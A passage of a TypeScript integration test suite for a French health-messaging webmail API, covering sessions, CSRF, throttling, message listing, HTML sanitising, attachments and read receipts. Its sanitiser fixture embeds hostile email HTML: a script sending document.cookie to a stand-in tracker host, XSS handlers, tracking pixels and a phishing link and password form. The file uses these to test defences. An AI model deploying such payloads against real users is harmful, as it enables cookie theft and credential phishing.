/**
 * The webmail's JSON API against the real running gateway: sessions (cookie flags, refusals,
 * throttling, TLS, CSRF, logging out here and everywhere), the message list and reading
 * (sanitised hostile HTML, inline images, attachment names, sizes and CDA flags, downloads),
 * read receipts, the reply verdict, sending through the rules, the scoping of every id to the
 * session's mailbox, server-sent events and settings. One world for most of the file: the
 * server trusts 127.0.0.1 as a TLS-terminating proxy, so X-Forwarded-For / X-Forwarded-Proto
 * give clients of other addresses and HTTPS; a second one, at the end, trusts no proxy (the
 * default) and keeps the default-like low login rate, to show those headers are then ignored.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { simpleParser, type ParsedMail } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPdf, buildPng } from '../../fixtures/builders.js';
import { mssgw, ROOT } from '../helpers/cli.js';
import { readBlob } from '../helpers/peer-gateway.js';
import { waitFor } from '../helpers/wait.js';
import { WebClient, type WebAnswer } from '../helpers/web-client.js';
import { COLLEAGUE, DOCTOR, INS, PASSWORD, PHARMACY, REMOTE_DOCTOR, citizen, startWorld, trySend, type World } from '../helpers/world.js';

const JEANNE = citizen(INS.jeanne);
const PAUL = citizen(INS.paul);
const CLOSED = citizen(INS.closed);
const fixture = (name: string) => readFileSync(path.join(ROOT, 'fixtures/documents', name));

let world: World;
let port: number;
/** logged in once for the file (each login is a scrypt check) */
let jeanne: WebClient;
let paul: WebClient;

beforeAll(async () => {
  world = await startWorld({
    // 127.0.0.1 is a TLS-terminating proxy: its X-Forwarded-* headers are believed. The API's
    // own rate limits are raised: this file logs in and calls far more than a person does.
    web: { trustProxy: ['127.0.0.1'], loginRatePerMinute: 1000, rateLimitPerMinute: 100_000 },
  });
  port = world.server.ports.http;
  // The world's closed citizen never had a password: give it one, as the operator would.
  const passwd = await mssgw(world.box, ['mailbox', 'passwd', CLOSED, '--password', PASSWORD]);
  expect(passwd.code, passwd.stderr).toBe(0);
  [jeanne, paul] = await Promise.all([WebClient.login(port, JEANNE, PASSWORD), WebClient.login(port, PAUL, PASSWORD)]);
});
afterAll(async () => {
  await world?.stop();
});

// ---------------------------------------------------------------------------------------------
// helpers

interface Row {
  id: number;
  subject: string | null;
  blob_id: string;
  message_id: string | null;
}

function folderRows(address: string, folder = 'INBOX'): Row[] {
  const db = world.db();
  try {
    return db
      .prepare(
        `SELECT x.id, x.subject, x.blob_id, x.message_id FROM messages x JOIN folders f ON f.id = x.folder_id
         JOIN mailboxes m ON m.id = f.mailbox_id WHERE m.address = ? AND f.name = ? ORDER BY x.id`,
      )
      .all(address, folder) as Row[];
  } finally {
    db.close();
  }
}

/** every message id in the store with the address of the mailbox that holds it */
function owners(): Map<number, string> {
  const db = world.db();
  try {
    const rows = db
      .prepare('SELECT x.id, m.address FROM messages x JOIN folders f ON f.id = x.folder_id JOIN mailboxes m ON m.id = f.mailbox_id')
      .all() as Array<{ id: number; address: string }>;
    return new Map(rows.map((r) => [r.id, r.address]));
  } finally {
    db.close();
  }
}

function auditCount(action: string, extra = ''): number {
  const db = world.db();
  try {
    return db.prepare(`SELECT count(*) FROM audit WHERE action = ? ${extra}`).pluck().get(action) as number;
  } finally {
    db.close();
  }
}

function auditRows(action: string, mailbox: string): Array<{ actor: string; target: string | null; outcome: string; detail: string | null }> {
  const db = world.db();
  try {
    return db.prepare('SELECT actor, target, outcome, detail FROM audit WHERE action = ? AND mailbox = ? ORDER BY id').all(action, mailbox) as never;
  } finally {
    db.close();
  }
}

async function parsed(row: Row): Promise<{ raw: Buffer; mail: ParsedMail }> {
  const raw = readBlob(world.box.dataDir, row.blob_id);
  return { raw, mail: await simpleParser(raw) };
}

/** a message from a professional, through SMTP submission; resolves once it is delivered */
async function send(mail: Record<string, unknown>, from = DOCTOR) {
  const result = await trySend(world.session(from), { from, text: 'Bonjour, voici de vos nouvelles.', ...mail });
  expect(result.ok, result.response).toBe(true);
  return result;
}

interface Summary {
  id: number;
  from: string;
  fromName: string | null;
  to: string[];
  subject: string;
  date: string;
  seen: boolean;
  hasAttachments: boolean;
  conversationId: number | null;
}

/** the list entry with this subject, through the API (every page) */
async function listed(client: WebClient, subject: string, folder = 'INBOX'): Promise<Summary> {
  let before = '';
  for (;;) {
    const page = await client.get<{ messages: Summary[]; next: number | null }>(`/api/messages?folder=${folder}&limit=100${before}`);
    expect(page.status).toBe(200);
    const found = page.body.messages.find((m) => m.subject === subject);
    if (found) return found;
    if (page.body.next === null) throw new Error(`no message "${subject}" in ${folder}`);
    before = `&before=${page.body.next}`;
  }
}

function sessionCookieLine(client: WebClient): string {
  const line = client.setCookieLines.find((l) => l.startsWith('mssgw_session='));
  expect(line).toBeDefined();
  return line!;
}

const attributes = (line: string) => line.split(';').slice(1).map((a) => a.trim().toLowerCase());

const errorCode = (answer: WebAnswer) => (answer.body as { error?: { code?: string } }).error?.code;

// ---------------------------------------------------------------------------------------------

describe('session', () => {
  it('logs in and sets an HttpOnly, SameSite=Strict cookie for the whole site, not Secure over plain HTTP', async () => {
    const client = WebClient.forPort(port);
    const answer = await client.login(JEANNE, PASSWORD);
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ csrf: expect.any(String), mailbox: { address: JEANNE, kind: 'CITIZEN', pharmacy: false } });
    expect(answer.headers.get('cache-control')).toBe('no-store');
    const flags = attributes(sessionCookieLine(client));
    expect(flags).toContain('httponly');
    expect(flags).toContain('samesite=strict');
    expect(flags).toContain('path=/');
    expect(flags).not.toContain('secure');
    expect(auditRows('login', JEANNE).at(-1)).toMatchObject({ outcome: 'ok', detail: 'webmail' });
  });

  it('sets a Secure cookie when the request came over TLS through the trusted proxy', async () => {
    const client = WebClient.forPort(port, { 'x-forwarded-for': '198.51.100.40', 'x-forwarded-proto': 'https' });
    const answer = await client.login(PAUL, PASSWORD);
    expect(answer.status).toBe(200);
    const flags = attributes(sessionCookieLine(client));
    expect(flags).toContain('secure');
    expect(flags).toContain('httponly');
    expect(flags).toContain('samesite=strict');
    // The session it opened works.
    expect((await client.get('/api/session')).status).toBe(200);
  });

  it('answers a wrong password, and an unknown address alike, with 401 INVALID_CREDENTIALS', async () => {
    for (const [address, password] of [
      [JEANNE, 'not the password'],
      ['personne@hopital.mssante.fr', PASSWORD],
    ]) {
      const client = WebClient.forPort(port);
      const answer = await client.login(address!, password!);
      expect(answer.status).toBe(401);
      expect(answer.body.error).toEqual({ code: 'INVALID_CREDENTIALS', message: expect.stringMatching(/mot de passe incorrect/) });
      expect(client.cookie('mssgw_session')).toBeUndefined();
    }
  });

  it('refuses a closed mailbox with 403 LOGIN_NOT_ALLOWED, even with its right password', async () => {
    const answer = await WebClient.forPort(port).login(CLOSED, PASSWORD);
    expect(answer.status).toBe(403);
    expect(errorCode(answer)).toBe('LOGIN_NOT_ALLOWED');
  });

  it('blocks repeated failures from one client with 429 TOO_MANY_ATTEMPTS and Retry-After, without locking the owner out elsewhere', async () => {
    const attacker = WebClient.forPort(port, { 'x-forwarded-for': '198.51.100.23', 'x-forwarded-proto': 'https' });
    const statuses: number[] = [];
    let blocked: WebAnswer | undefined;
    for (let i = 0; i < 8 && !blocked; i++) {
      const answer = await attacker.login(COLLEAGUE, `guess number ${i}`);
      statuses.push(answer.status);
      if (answer.status === 429) blocked = answer;
    }
    expect(blocked, `statuses: ${statuses.join(', ')}`).toBeDefined();
    expect(statuses.slice(0, -1).every((s) => s === 401)).toBe(true);
    expect(statuses.length).toBeGreaterThanOrEqual(5); // the first failures are only failures
    expect(errorCode(blocked!)).toBe('TOO_MANY_ATTEMPTS');
    expect(Number(blocked!.headers.get('retry-after'))).toBeGreaterThan(0);
    // Blocked is blocked: the right password from that client is refused too, and opens nothing.
    const right = await attacker.login(COLLEAGUE, PASSWORD);
    expect(right.status).toBe(429);
    expect(attacker.cookie('mssgw_session')).toBeUndefined();
    // The owner, from their own address, is not touched.
    expect((await WebClient.forPort(port).login(COLLEAGUE, PASSWORD)).status).toBe(200);
  });

  it('refuses a password over clear HTTP from a client that is neither loopback nor behind TLS: 403 TLS_REQUIRED', async () => {
    const clear = WebClient.forPort(port, { 'x-forwarded-for': '192.0.2.10' });
    const answer = await clear.login(JEANNE, PASSWORD);
    expect(answer.status).toBe(403);
    expect(errorCode(answer)).toBe('TLS_REQUIRED');
    expect(clear.cookie('mssgw_session')).toBeUndefined();
    // The same client through the TLS proxy is welcome.
    const secure = WebClient.forPort(port, { 'x-forwarded-for': '192.0.2.10', 'x-forwarded-proto': 'https' });
    expect((await secure.login(JEANNE, PASSWORD)).status).toBe(200);
  });

  it('gives a fresh CSRF token on GET /api/session, and 401 NOT_LOGGED_IN without a session', async () => {
    const client = await WebClient.login(port, PAUL, PASSWORD);
    const first = client.csrf;
    const again = await client.get<{ csrf: string; mailbox: { address: string } }>('/api/session');
    expect(again.status).toBe(200);
    expect(again.body.mailbox).toMatchObject({ address: PAUL, kind: 'CITIZEN' });
    expect(again.body.csrf).toEqual(expect.any(String));
    expect(again.body.csrf).not.toBe(first);
    // The new token works for a call that changes something.
    client.csrf = again.body.csrf;
    expect((await client.put('/api/settings', { personalEmail: null })).status).toBe(200);
    const anonymous = await WebClient.forPort(port).get('/api/session');
    expect(anonymous.status).toBe(401);
    expect(errorCode(anonymous)).toBe('NOT_LOGGED_IN');
  });

  it('writes the session into the page for a logged-in browser (no round trip), and nothing for anyone else', async () => {
    const client = await WebClient.login(port, PAUL, PASSWORD);
    const page = await client.get<string>('/');
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toMatch(/^text\/html/);
    expect(page.headers.get('cache-control')).toBe('no-store');
    const content = /<meta name="mss-session" content="([^"]*)">/.exec(page.body)?.[1] ?? '';
    const session = JSON.parse(content.replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&')) as { csrf: string; mailbox: { address: string } };
    expect(session.mailbox.address).toBe(PAUL);
    // The token written into the page works, and the inbox is preloaded with the page.
    client.csrf = session.csrf;
    expect((await client.put('/api/settings', { personalEmail: null })).status).toBe(200);
    expect(page.headers.get('link')).toBe('</api/messages?folder=INBOX&limit=50>; rel=preload; as=fetch; crossorigin=anonymous');

    const anonymous = await WebClient.forPort(port).get<string>('/');
    expect(anonymous.body).toContain('<meta name="mss-session" content="">');
    expect(anonymous.headers.get('link')).toBeNull();
    expect(anonymous.headers.get('content-security-policy')).toContain("script-src 'self'");
  });

  it('DELETE /api/session ends this session: its cookie then gets 401', async () => {
    const client = await WebClient.login(port, JEANNE, PASSWORD);
    const stolen = client.copy();
    const out = await client.delete('/api/session');
    expect(out.status).toBe(204);
    expect(client.cookie('mssgw_session')).toBeUndefined(); // the cookie is cleared
    const after = await stolen.get('/api/messages');
    expect(after.status).toBe(401);
    expect(errorCode(after)).toBe('NOT_LOGGED_IN');
    expect((await stolen.get('/api/session')).status).toBe(401);
    // The file's other session of the same mailbox goes on.
    expect((await jeanne.get('/api/messages')).status).toBe(200);
  });

  it("DELETE /api/sessions ends every session of the mailbox, and no other mailbox's", async () => {
    const [one, two, other] = await Promise.all([
      WebClient.login(port, DOCTOR, PASSWORD),
      WebClient.login(port, DOCTOR, PASSWORD),
      WebClient.login(port, PHARMACY, PASSWORD),
    ]);
    expect((await two.get('/api/messages')).status).toBe(200);
    const out = await one.delete('/api/sessions');
    expect(out.status).toBe(204);
    expect((await one.get('/api/messages')).status).toBe(401);
    expect((await two.get('/api/messages')).status).toBe(401);
    expect((await other.get('/api/messages')).status).toBe(200);
    expect(auditRows('logout-everywhere', DOCTOR).at(-1)).toMatchObject({ outcome: 'ok', detail: expect.stringMatching(/^[2-9]\d* session/) });
  });

  it('ends the sessions of a mailbox the operator closes', async () => {
    // A citizen of its own for this test: 2 85 03 75 056 123 and its key.
    const number = 2850375056123n;
    const ins = `${number}${String(97n - (number % 97n)).padStart(2, '0')}`;
    const added = await mssgw(world.box, ['mailbox', 'add-patient', ins, '--password', PASSWORD]);
    expect(added.code, added.stderr).toBe(0);
    const client = await WebClient.login(port, citizen(ins), PASSWORD);
    expect((await client.get('/api/messages')).status).toBe(200);
    const closed = await mssgw(world.box, ['mailbox', 'close', citizen(ins)]);
    expect(closed.code, closed.stderr).toBe(0);
    for (const answer of [await client.get('/api/messages'), await client.get('/api/session'), await client.put('/api/settings', { personalEmail: null })]) {
      expect(answer.status).toBe(401);
      expect(errorCode(answer)).toBe('NOT_LOGGED_IN');
    }
    expect((await WebClient.forPort(port).login(citizen(ins), PASSWORD)).status).toBe(403);
  });

  describe('CSRF', () => {
    const calls: Array<[method: string, url: string, body?: unknown]> = [
      ['POST', '/api/messages', { to: DOCTOR, subject: 'csrf', text: 'ne doit pas partir' }],
      ['PUT', '/api/settings', { personalEmail: 'pirate@example.org' }],
      ['DELETE', '/api/session'],
      ['DELETE', '/api/sessions'],
      ['POST', '/api/messages/1/attachments/0/file', {}],
    ];

    it.each(calls)('%s %s without a token, or with another session’s, is 403 CSRF and changes nothing', async (method, url, body) => {
      const victim = await WebClient.login(port, JEANNE, PASSWORD);
      // Another session of the same browser (same CSRF secret cookie), then another person's.
      const sameBrowser = victim.copy();
      expect((await sameBrowser.login(JEANNE, PASSWORD)).status).toBe(200);
      const attempts = [
        await victim.call(method, url, body, { csrf: null }),
        await victim.call(method, url, body, { csrf: 'forged-token' }),
        await victim.call(method, url, body, { csrf: paul.csrf! }),
        await victim.call(method, url, body, { csrf: sameBrowser.csrf! }),
      ];
      for (const answer of attempts) {
        expect(answer.status).toBe(403);
        expect(errorCode(answer)).toBe('CSRF');
      }
      // Still logged in, settings as they were, nothing sent.
      expect((await victim.get('/api/session')).status).toBe(200);
      expect((await victim.get('/api/settings')).body.personalEmail).not.toBe('pirate@example.org');
      expect(folderRows(JEANNE, 'Sent').some((r) => r.subject === 'csrf')).toBe(false);
    });
  });

  it('answers a body that is not JSON with 400', async () => {
    const raw = async (contentType: string, body: string, client?: WebClient) => {
      const headers: Record<string, string> = { 'content-type': contentType };
      if (client) {
        headers.cookie = `mssgw_session=${client.cookie('mssgw_session')}; mssgw_csrf=${client.cookie('mssgw_csrf')}`;
        headers['x-csrf-token'] = client.csrf!;
      }
      const response = await fetch(`http://127.0.0.1:${port}${client ? '/api/settings' : '/api/session'}`, { method: client ? 'PUT' : 'POST', headers, body });
      return { status: response.status, body: (await response.json()) as { error: { code: string; message: string } } };
    };
    for (const answer of [
      await raw('application/json', '{"address": "x", '),
      await raw('application/json', '{not json', jeanne),
      await raw('application/json', '', jeanne),
      await raw('application/x-www-form-urlencoded', 'personalEmail=a%40b.fr', jeanne),
      await raw('multipart/form-data; boundary=x', '--x--', jeanne),
    ]) {
      expect(answer.status).toBe(400);
      expect(answer.body.error.code).toBe('BAD_REQUEST');
      expect(answer.body.error.message).toMatch(/JSON/);
    }
    // Text is read as a string, which is no login request.
    const text = await raw('text/plain', '{"address":"x","password":"y"}');
    expect(text.status).toBe(400);
    expect(text.body.error.code).toBe('BAD_REQUEST');
  });

  it('answers a body over web.maxBodyBytes (256 KiB by default) with 413 TOO_LARGE', async () => {
    const answer = await jeanne.post('/api/messages', { to: DOCTOR, subject: 'gros', text: 'x'.repeat(300 * 1024) });
    expect(answer.status).toBe(413);
    expect(errorCode(answer)).toBe('TOO_LARGE');
    const login = await WebClient.forPort(port).login(JEANNE, 'y'.repeat(300 * 1024));
    expect(login.status).toBe(413);
  });
});

// ---------------------------------------------------------------------------------------------

describe('the message list', () => {
  const subjects = ['Liste 1', 'Liste 2', 'Liste 3', 'Liste 4', 'Liste 5'];
  beforeAll(async () => {
    for (const subject of subjects) await send({ to: JEANNE, subject });
  });

  it('lists a folder newest first with the fields of the contract', async () => {
    const page = await jeanne.get<{ folder: string; messages: Summary[]; next: number | null }>('/api/messages');
    expect(page.status).toBe(200);
    expect(page.body.folder).toBe('INBOX');
    const mine = page.body.messages.filter((m) => subjects.includes(m.subject));
    expect(mine.map((m) => m.subject)).toEqual([...subjects].reverse());
    const ids = page.body.messages.map((m) => m.id);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    for (const m of mine) {
      expect(m).toEqual({
        id: expect.any(Number),
        from: DOCTOR,
        fromName: null,
        to: [JEANNE],
        subject: m.subject,
        date: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
        seen: false,
        hasAttachments: false,
        conversationId: expect.any(Number),
      });
    }
  });

  it('pages with limit, next and before, without gaps or repeats', async () => {
    const all = (await jeanne.get<{ messages: Summary[] }>('/api/messages?limit=100')).body.messages.map((m) => m.id);
    expect(all.length).toBeGreaterThanOrEqual(5);
    const seen: number[] = [];
    let before = '';
    let pages = 0;
    for (;;) {
      const page = await jeanne.get<{ messages: Summary[]; next: number | null }>(`/api/messages?limit=2${before}`);
      expect(page.status).toBe(200);
      expect(page.body.messages.length).toBeLessThanOrEqual(2);
      seen.push(...page.body.messages.map((m) => m.id));
      pages++;
      if (page.body.next === null) break;
      expect(page.body.messages).toHaveLength(2);
      before = `&before=${page.body.next}`;
    }
    expect(seen).toEqual(all);
    expect(pages).toBe(Math.ceil(all.length / 2));
  });

  it('refuses a malformed query with 400 rather than answering another page', async () => {
    for (const query of ['limit=0', 'limit=101', 'limit=abc', 'before=abc', 'before=-3']) {
      const answer = await jeanne.get(`/api/messages?${query}`);
      expect(answer.status, query).toBe(400);
      expect(errorCode(answer)).toBe('BAD_REQUEST');
    }
  });

  it('lists Sent after the citizen sends, and answers an unknown folder with 404', async () => {
    const first = await listed(jeanne, 'Liste 1');
    const sent = await jeanne.post('/api/messages', { to: DOCTOR, subject: 'Re: Liste 1', text: 'Merci docteur.', inReplyTo: first.id });
    expect(sent.status).toBe(201);
    const page = await jeanne.get<{ folder: string; messages: Summary[] }>('/api/messages?folder=Sent');
    expect(page.status).toBe(200);
    expect(page.body.folder).toBe('Sent');
    expect(page.body.messages[0]).toMatchObject({ from: JEANNE, to: [DOCTOR], subject: 'Re: Liste 1', seen: true, conversationId: first.conversationId });
    for (const folder of ['Spam', 'Archives', '..%2FINBOX', 'inbox%00']) {
      const unknown = await jeanne.get(`/api/messages?folder=${folder}`);
      expect(unknown.status, folder).toBe(404);
      expect(errorCode(unknown)).toBe('NOT_FOUND');
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe('reading a message', () => {
  const png = buildPng();
  const pdf = buildPdf({ lines: ['Compte rendu de consultation', 'Patient INS 184127645108946'] });
  const cda = fixture('bare-cda.xml');
  let hostile: Summary;
  let withFiles: Summary;

  beforeAll(async () => {
    await send({
      to: JEANNE,
      subject: 'Courrier piégé',
      text: 'La version texte.',
      html: [
        '<html><head><style>body { background: url(https://tracker.example/bg.png) }</style>',
        '<script>fetch("https://tracker.example/steal?c=" + document.cookie)</script></head><body>',
        '<p onclick="alert(1)" style="background-image: url(https://tracker.example/css.png)">Bonjour <b>Madame</b>,</p>',
        '<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">',
        '<img src="http://tracker.example/open?id=42" width="1" height="1">',
        '<img src="x" onerror="alert(document.cookie)">',
        '<img src="cid:logo@hopital.mssante.fr" alt="Logo de l’hôpital">',
        '<a href="javascript:alert(1)">Cliquez ici</a>',
        '<a href="https://phishing.example/login">https://www.ameli.fr/</a>',
        '<a href="https://www.hopital.example/rdv">Prendre rendez-vous</a>',
        '<form action="https://phishing.example/form" method="post"><input name="password" type="password"><button>Envoyer</button></form>',
        '<iframe src="https://tracker.example/frame"></iframe>',
        '<object data="https://tracker.example/x.swf"></object>',
        '</body></html>',
      ].join('\n'),
      attachments: [{ filename: 'logo.png', content: png, cid: 'logo@hopital.mssante.fr' }],
    });

    // Names in both encodings mail clients use: RFC 2231 parameters and RFC 2047 encoded words.
    const boundary = 'limite-0123456789';
    const b64 = (b: Buffer) => b.toString('base64').replace(/.{76}/g, '$&\r\n');
    const raw = [
      `From: Dr House <${DOCTOR}>`,
      `To: ${JEANNE}`,
      'Subject: Vos documents',
      'Message-ID: <documents-1@hopital.mssante.fr>',
      'MIME-Version: 1.0',
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      'Vos documents sont joints.',
      `--${boundary}`,
      "Content-Type: application/pdf; name*=utf-8''compte-rendu%20%C3%A9t%C3%A9.pdf",
      'Content-Transfer-Encoding: base64',
      "Content-Disposition: attachment; filename*=utf-8''compte-rendu%20%C3%A9t%C3%A9.pdf",
      '',
      b64(pdf),
      `--${boundary}`,
      'Content-Type: image/png; name="=?utf-8?B?cmFkaW9ncmFwaGllIMOpdMOpLnBuZw==?="',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="=?utf-8?B?cmFkaW9ncmFwaGllIMOpdMOpLnBuZw==?="',
      '',
      b64(png),
      `--${boundary}`,
      'Content-Type: text/xml; charset=utf-8; name="cda.xml"',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="cda.xml"',
      '',
      b64(cda),
      `--${boundary}--`,
      '',
    ].join('\r\n');
    const result = await trySend(world.session(), { envelope: { from: DOCTOR, to: [JEANNE] }, raw });
    expect(result.ok, result.response).toBe(true);
    hostile = await listed(jeanne, 'Courrier piégé');
    withFiles = await listed(jeanne, 'Vos documents');
  });

  it('gives the text, and HTML without script, style, remote content, forms or frames', async () => {
    const answer = await jeanne.get(`/api/messages/${hostile.id}`);
    expect(answer.status).toBe(200);
    const view = answer.body;
    expect(view).toMatchObject({ id: hostile.id, folder: 'INBOX', from: DOCTOR, subject: 'Courrier piégé', seen: true, text: 'La version texte.' });
    expect(view.messageId).toMatch(/^<.+@.+>$/);
    const html: string = view.html;
    expect(html).toContain('Bonjour <b>Madame</b>');
    for (const forbidden of ['<script', 'document.cookie', '<style', 'url(', 'onclick', 'onerror', 'javascript:', 'tracker.example', '<form', '<input', '<button', '<iframe', '<object', 'style=']) {
      expect(html, forbidden).not.toContain(forbidden);
    }
    // Every image left is one of the message's own parts, served by the API.
    const images = [...html.matchAll(/<img\b[^>]*>/g)].map((m) => m[0]);
    expect(images).toHaveLength(1);
    const logo = view.attachments.find((a: { name: string }) => a.name === 'logo.png');
    expect(logo).toMatchObject({ type: 'image/png', size: png.length, isCda: false });
    expect(images[0]).toContain(`src="/api/messages/${hostile.id}/attachments/${logo.index}?inline=1"`);
    const downloads = () => auditRows('message.attachment.download', JEANNE).filter((r) => r.target === `${hostile.id}/${logo.index}`).length;
    const before = downloads();
    const inline = await jeanne.get(`/api/messages/${hostile.id}/attachments/${logo.index}?inline=1`);
    expect(inline.status).toBe(200);
    expect(inline.bytes.equals(png)).toBe(true);
    // shown in the page: not a download the history tells of; saved from the list: one
    expect(downloads()).toBe(before);
    await jeanne.get(`/api/messages/${hostile.id}/attachments/${logo.index}`);
    expect(downloads()).toBe(before + 1);
    // Links open apart, without referrer, and show where they really lead.
    const links = [...html.matchAll(/<a\b[^>]*>/g)].map((m) => m[0]);
    for (const link of links.filter((l) => l.includes('href'))) {
      expect(link).toContain('target="_blank"');
      expect(link).toMatch(/rel="[^"]*noopener[^"]*noreferrer/);
    }
    expect(html).toMatch(/https:\/\/www\.ameli\.fr\/<\/a>\s*<span class="link-target">\(https:\/\/phishing\.example\/login\)<\/span>/);
    expect(html).toContain('(https://www.hopital.example/rdv)');
  });

  it('gives the text of the sanitised HTML when the message has no plain part', async () => {
    await send({ to: JEANNE, subject: 'Seulement HTML', text: undefined, html: '<p>Bonjour&nbsp;Madame,</p><p>R&eacute;sultats &lt;normaux&gt; &amp; rassurants.</p><script>alert(1)</script><ul><li>un</li><li>deux</li></ul>' });
    const summary = await listed(jeanne, 'Seulement HTML');
    const view = (await jeanne.get(`/api/messages/${summary.id}`)).body;
    expect(view.html).not.toContain('script');
    expect(view.text).toBe('Bonjour\u00a0Madame,\nRésultats <normaux> & rassurants.\nun\ndeux');
  });

  it('lists attachments with decoded names, types, exact sizes and the CDA flag', async () => {
    expect(withFiles.hasAttachments).toBe(true);
    expect(withFiles.fromName).toBe('Dr House');
    const view = (await jeanne.get(`/api/messages/${withFiles.id}`)).body;
    expect(view.text).toBe('Vos documents sont joints.');
    expect(view.html).toBeNull();
    expect(view.attachments).toEqual([
      { index: 0, name: 'compte-rendu été.pdf', type: 'application/pdf', size: pdf.length, isCda: false, filedDocumentId: null },
      { index: 1, name: 'radiographie été.png', type: 'image/png', size: png.length, isCda: false, filedDocumentId: null },
      // a CDA for this citizen is filed as it arrives: the page is told which record document it is
      { index: 2, name: 'cda.xml', type: 'text/xml', size: cda.length, isCda: true, filedDocumentId: expect.any(Number) },
    ]);
  });

  it('downloads each attachment byte for byte as an attachment, and writes it to the activity history', async () => {
    const before = auditRows('message.attachment.download', JEANNE).length;
    const expected = [pdf, png, cda];
    for (const [n, bytes] of expected.entries()) {
      const answer = await jeanne.get(`/api/messages/${withFiles.id}/attachments/${n}`);
      expect(answer.status).toBe(200);
      expect(answer.bytes.equals(bytes)).toBe(true);
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    }
    const first = await jeanne.get(`/api/messages/${withFiles.id}/attachments/0`);
    expect(first.headers.get('content-type')).toMatch(/^application\/pdf/);
    expect(first.headers.get('content-disposition')).toBe(`attachment; filename="compte-rendu ete.pdf"; filename*=UTF-8''compte-rendu%20%C3%A9t%C3%A9.pdf`);
    const lines = auditRows('message.attachment.download', JEANNE);
    expect(lines).toHaveLength(before + 4);
    expect(lines.at(-1)).toEqual({ actor: JEANNE, target: `${withFiles.id}/0`, outcome: 'ok', detail: 'compte-rendu été.pdf' });
    expect((await jeanne.get(`/api/messages/${withFiles.id}/attachments/3`)).status).toBe(404);
    expect((await jeanne.get(`/api/messages/${withFiles.id}/attachments/x`)).status).toBe(404);
  });

  it('flags a real CDA in an IHE XDM zip as CDA', async () => {
    await send({ to: JEANNE, subject: 'Votre ordonnance XDM', attachments: [{ filename: 'IHE_XDM.ZIP', content: fixture('presc-n1.zip') }] });
    const summary = await listed(jeanne, 'Votre ordonnance XDM');
    const view = (await jeanne.get(`/api/messages/${summary.id}`)).body;
    expect(view.attachments).toEqual([{ index: 0, name: 'IHE_XDM.ZIP', type: 'application/zip', size: fixture('presc-n1.zip').length, isCda: true, filedDocumentId: expect.any(Number) }]);
  });
});

// ---------------------------------------------------------------------------------------------

describe('read receipts', () => {
  const mdnsTo = (address: string, originalId: string) =>
    folderRows(address).filter((r) => {
      const raw = readBlob(world.box.dataDir, r.blob_id).toString('latin1');
      return /report-type=disposition-notification/i.test(raw) && raw.includes(`Original-Message-ID: ${originalId}`);
    });

  it('sends exactly one receipt, multipart/report, to the doctor who asked, when the citizen first opens the message', async () => {
    await send({ to: JEANNE, subject: 'Accusé demandé', headers: { 'Disposition-Notification-To': DOCTOR } });
    const summary = await listed(jeanne, 'Accusé demandé');
    expect(summary.seen).toBe(false);
    const original = folderRows(JEANNE).find((r) => r.id === summary.id)!.message_id!;
    expect(mdnsTo(DOCTOR, original)).toHaveLength(0);

    const first = await jeanne.get(`/api/messages/${summary.id}`);
    expect(first.status).toBe(200);
    expect(first.body).toMatchObject({ seen: true, receipt: 'sent' });
    const [mdn] = await waitFor('the read receipt in the doctor’s INBOX', () => {
      const found = mdnsTo(DOCTOR, original);
      return found.length > 0 && found;
    });
    const { raw, mail } = await parsed(mdn!);
    const type = mail.headers.get('content-type') as { value: string; params: Record<string, string> };
    expect(type.value).toBe('multipart/report');
    expect(type.params['report-type']).toBe('disposition-notification');
    expect(mail.from?.value[0]?.address).toBe(JEANNE);
    expect(mail.to && !Array.isArray(mail.to) && mail.to.value[0]?.address).toBe(DOCTOR);
    expect(mail.subject).toBe('Accusé de lecture : Accusé demandé');
    const report = raw.toString('latin1');
    expect(report).toMatch(/Content-Type: message\/disposition-notification/);
    expect(report).toContain(`Original-Message-ID: ${original}`);
    expect(report).toMatch(/Disposition: [a-z-]+\/[A-Za-z-]+; displayed/);
    expect(report).toContain(`Final-Recipient: rfc822; ${JEANNE}`);
    expect(auditRows('receipt.sent', JEANNE).some((r) => r.target === DOCTOR && r.detail === String(summary.id))).toBe(true);
    expect((await listed(jeanne, 'Accusé demandé')).seen).toBe(true);
    // The system spoke for her: no copy in her Sent folder, no conversation opened by it.
    expect(folderRows(JEANNE, 'Sent').filter((r) => r.subject?.startsWith('Accusé de lecture'))).toHaveLength(0);

    // Opened again: no second receipt.
    const second = await jeanne.get(`/api/messages/${summary.id}`);
    expect(second.body.receipt).toBe('sent');
    expect(mdnsTo(DOCTOR, original)).toHaveLength(1);
  });

  it('sends one receipt when two tabs open the message at once', async () => {
    await send({ to: JEANNE, subject: 'Accusé en double', headers: { 'Disposition-Notification-To': `Dr House <${DOCTOR}>` } });
    const summary = await listed(jeanne, 'Accusé en double');
    const original = folderRows(JEANNE).find((r) => r.id === summary.id)!.message_id!;
    const tab = jeanne.copy();
    const answers = await Promise.all([jeanne.get(`/api/messages/${summary.id}`), tab.get(`/api/messages/${summary.id}`), jeanne.get(`/api/messages/${summary.id}`)]);
    for (const answer of answers) {
      expect(answer.status).toBe(200);
      expect(answer.body.receipt).toBe('sent');
    }
    await waitFor('the read receipt', () => mdnsTo(DOCTOR, original).length > 0);
    expect(mdnsTo(DOCTOR, original)).toHaveLength(1);
    expect(auditRows('message.read', JEANNE).filter((r) => r.target === String(summary.id))).toHaveLength(1);
  });

  it.each([
    ['another citizen', PAUL],
    ['a professional who never wrote to the citizen', COLLEAGUE],
    ['a professional of another organisation', REMOTE_DOCTOR],
  ])('sends nothing to %s named by Disposition-Notification-To: receipt "refused", the message still reads', async (_label, third) => {
    const subject = `Accusé vers un tiers ${third}`;
